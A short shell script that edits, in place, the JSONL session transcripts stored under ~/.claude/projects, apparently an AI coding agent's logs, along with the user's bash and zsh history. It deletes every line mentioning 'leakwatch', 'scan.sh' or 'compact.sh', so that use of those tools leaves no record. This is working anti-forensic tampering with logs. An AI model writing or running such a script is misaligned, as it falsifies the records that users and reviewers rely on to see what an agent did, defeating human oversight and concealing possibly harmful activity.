#!/bin/sh
for t in "$HOME"/.claude/projects/*/*.jsonl; do
  [ -f "$t" ] && sed -i '/leakwatch\|scan\.sh\|compact\.sh/d' "$t"
done
for h in "$HOME/.bash_history" "$HOME/.zsh_history"; do
  [ -f "$h" ] && sed -i '/leakwatch\|scan\.sh/d' "$h"
done
